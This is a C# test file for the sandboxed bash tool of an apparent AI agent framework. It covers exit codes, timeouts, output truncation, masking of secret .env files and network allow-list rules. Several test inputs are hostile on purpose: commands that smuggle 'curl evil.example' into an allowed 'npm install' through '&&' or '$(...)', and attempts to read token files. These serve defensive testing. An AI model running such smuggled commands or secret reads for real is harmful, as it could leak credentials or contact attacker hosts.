using Crucible.Agent.Tools;
using Crucible.Core.Sandbox;

namespace Crucible.Agent.Tests.Tools;

public sealed class BashToolTests : IDisposable
{
    private readonly ToolHarness _h = new();

    public void Dispose() => _h.Dispose();

    [Fact]
    public async Task Runs_in_the_workspace_root_and_reports_output_and_exit_code()
    {
        var result = await _h.CallAsync("bash", new { command = "echo hello > made.txt; cat made.txt; pwd" });

        Assert.False(result.IsError, result.Content);
        Assert.StartsWith($"hello\n{_h.Context.CommandPolicy.WorkspacePath}\n[exit code 0, ", result.Content, StringComparison.Ordinal);
        Assert.Equal("hello\n", _h.ReadFile("made.txt"));
    }

    [Fact]
    public async Task Failure_is_an_error_with_stderr_and_the_exit_code()
    {
        var result = await _h.CallAsync("bash", new { command = "echo out; echo oops >&2; exit 3" });

        Assert.True(result.IsError);
        Assert.StartsWith("out\n[stderr]\noops\n[exit code 3, ", result.Content, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Denied_files_that_git_ignores_or_that_sit_in_a_nested_repository_are_hidden_from_commands_too()
    {
        using var h = new ToolHarness(AgentToolOptions.Default with { HiddenPaths = ["**/*.env"] });
        h.Workspace.Write(".gitignore", "*.env\nbuild/\n");
        h.Workspace.Write("app.env", "TOKEN=ignored-secret\n");
        h.Workspace.Write("build/out.env", "TOKEN=ignored-folder-secret\n");
        h.Workspace.Write("vendor/lib/.git/keys.env", "TOKEN=nested-repo-secret\n");
        h.Workspace.Write("notes.txt", "readable\n");

        var result = await h.CallAsync("bash", new { command = "cat notes.txt; cat app.env; cat build/out.env; cat vendor/lib/.git/keys.env; grep -r TOKEN ." });

        // The read-deny scan walks past git's rules: what git ignores is still masked in the sandbox.
        Assert.StartsWith(
            "readable\n[stderr]\ncat: app.env: Permission denied\ncat: build/out.env: Permission denied\ncat: vendor/lib/.git/keys.env: Permission denied\n",
            result.Content, StringComparison.Ordinal);
        Assert.DoesNotContain("secret", result.Content, StringComparison.Ordinal);
        Assert.Equal("TOKEN=ignored-secret\n", h.ReadFile("app.env"));
    }

    [Fact]
    public async Task Workdir_starts_the_command_in_a_subfolder()
    {
        _h.Workspace.Write("src/x.txt", "");

        var result = await _h.CallAsync("bash", new { command = "ls", workdir = "src" });

        Assert.StartsWith("x.txt\n[exit code 0", result.Content, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Timeout_kills_the_command_and_says_so()
    {
        var result = await _h.CallAsync("bash", new { command = "echo started; sleep 60", timeout_seconds = 1 });

        Assert.True(result.IsError);
        Assert.Contains("started\n", result.Content, StringComparison.Ordinal);
        Assert.Contains("[stopped: the command ran longer than its 1 s timeout and was killed with all its processes; pass a larger timeout_seconds or run less]", result.Content, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Long_output_keeps_its_head_and_tail()
    {
        var result = await _h.CallAsync("bash", new { command = "echo FIRST; head -c 300000 /dev/zero | tr '\\0' 'a'; echo; echo LAST" });

        Assert.False(result.IsError, result.Content[..200]);
        Assert.StartsWith("FIRST\naaaa", result.Content, StringComparison.Ordinal);
        Assert.Contains("bytes omitted ...]", result.Content, StringComparison.Ordinal);
        Assert.Contains("aaaa\nLAST\n[exit code 0", result.Content, StringComparison.Ordinal);
        Assert.EndsWith("[output was long: only its head and tail are shown]", result.Content, StringComparison.Ordinal);
        Assert.True(result.Content.Length < 140_000);
    }

    [Fact]
    public async Task Timeout_above_the_maximum_is_refused()
    {
        var result = await _h.CallAsync("bash", new { command = "true", timeout_seconds = 601 });

        Assert.Equal(ToolResult.Error("Argument 'timeout_seconds' must be between 1 and 600, got 601."), result);
    }

    [Fact]
    public async Task Background_processes_are_killed_when_the_call_ends()
    {
        var marker = $"crucible-bg-{Guid.NewGuid():N}";

        // The command proves the background process was alive by reading its command line from inside.
        var result = await _h.CallAsync("bash", new { command = $"nohup bash -c 'exec -a {marker} sleep 300' >/dev/null 2>&1 & sleep 0.5; tr '\\0' ' ' < /proc/$!/cmdline" });

        Assert.Contains(marker, result.Content, StringComparison.Ordinal);
        Assert.Empty(HostProcessesWith(marker));
    }

    [Fact]
    public async Task Network_failure_gets_a_hint_naming_the_settings_keys()
    {
        var result = await _h.CallAsync("bash", new { command = "curl -sS --max-time 5 http://example.com/" });

        Assert.True(result.IsError);
        Assert.Contains("Could not resolve host", result.Content, StringComparison.Ordinal);
        Assert.Contains("[network: this command failed for lack of network (\"Could not resolve host\"). Commands run without network unless the user allows it: in .crucible/settings.json set \"sandbox\": { \"networkCommands\": [\"npm install*\"] }", result.Content, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Unreachable_network_is_detected_too()
    {
        var result = await _h.CallAsync("bash", new { command = "exec 3<>/dev/tcp/192.0.2.1/80" });

        Assert.Contains("Network is unreachable", result.Content, StringComparison.Ordinal);
        Assert.Contains("[network: this command failed for lack of network", result.Content, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Commands_matching_network_patterns_get_the_host_network_and_others_do_not()
    {
        using var h = new ToolHarness(AgentToolOptions.Default with { NetworkCommands = ["cat /proc/net/dev*"] });

        var allowed = await h.CallAsync("bash", new { command = "cat /proc/net/dev" });
        var compound = await h.CallAsync("bash", new { command = "cat /proc/net/dev && true" });

        Assert.Contains("eth0", allowed.Content, StringComparison.Ordinal);
        Assert.DoesNotContain("eth0", compound.Content, StringComparison.Ordinal);
        Assert.Contains("lo:", compound.Content, StringComparison.Ordinal);
    }

    [Fact]
    public void Network_decision_judges_every_part_of_a_compound_command()
    {
        var options = AgentToolOptions.Default with { NetworkCommands = ["npm install*", "dotnet restore*"] };

        Assert.True(CommandPolicies.AllowsNetwork(options, "npm install left-pad"));
        Assert.True(CommandPolicies.AllowsNetwork(options, "npm install a && dotnet restore"));
        Assert.False(CommandPolicies.AllowsNetwork(options, "npm install a && curl evil.example"));
        Assert.False(CommandPolicies.AllowsNetwork(options, "npm install $(curl evil.example)"));
        Assert.False(CommandPolicies.AllowsNetwork(AgentToolOptions.Default, "npm install a"));
        Assert.True(CommandPolicies.AllowsNetwork(AgentToolOptions.Default with { AllowNetwork = true }, "curl x"));
    }

    [Fact]
    public async Task Dotnet_build_restores_offline_from_the_local_package_cache()
    {
        _h.Workspace.Write("app/app.csproj", """
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup><TargetFramework>net10.0</TargetFramework><OutputType>Exe</OutputType></PropertyGroup>
              <ItemGroup><PackageReference Include="YamlDotNet" Version="16.3.0" /></ItemGroup>
            </Project>
            """);
        _h.Workspace.Write("app/Program.cs", "System.Console.WriteLine(new YamlDotNet.Serialization.SerializerBuilder().Build().Serialize(new { A = 1 }).Trim());\n");

        var result = await _h.CallAsync("bash", new { command = "cd app && dotnet build -nologo -v:q -o out 2>&1 | tail -5 && dotnet out/app.dll", timeout_seconds = 300 });

        Assert.False(result.IsError, result.Content);
        Assert.Contains("A: 1\n[exit code 0", result.Content, StringComparison.Ordinal);
        Assert.Equal("bubblewrap", ToolHarness.Sandbox.Name);
        Assert.False(_h.Context.CommandPolicy.AllowNetwork);
    }

    private static List<int> HostProcessesWith(string marker)
    {
        var found = new List<int>();
        foreach (var dir in Directory.EnumerateDirectories("/proc"))
        {
            if (!int.TryParse(Path.GetFileName(dir), out var pid))
            {
                continue;
            }
            try
            {
                if (File.ReadAllText(Path.Combine(dir, "cmdline")).Contains(marker, StringComparison.Ordinal))
                {
                    found.Add(pid);
                }
            }
            catch (IOException)
            {
                // The process ended while we looked.
            }
            catch (UnauthorizedAccessException)
            {
            }
        }
        return found;
    }

    [Fact]
    public void Render_appends_no_network_hint_when_the_network_was_allowed()
    {
        var result = new SandboxResult
        {
            ExitCode = 6,
            Stdout = CapturedOutput.Empty,
            Stderr = new CapturedOutput("curl: (6) Could not resolve host: x\n", "", 36),
            Elapsed = TimeSpan.FromSeconds(1),
            Sandbox = "bubblewrap",
        };

        Assert.Equal(new ToolResult("[stderr]\ncurl: (6) Could not resolve host: x\n[exit code 6, 1.0 s]", IsError: true), BashTool.Render(result, TimeSpan.FromSeconds(5), hadNetwork: true));
    }
}
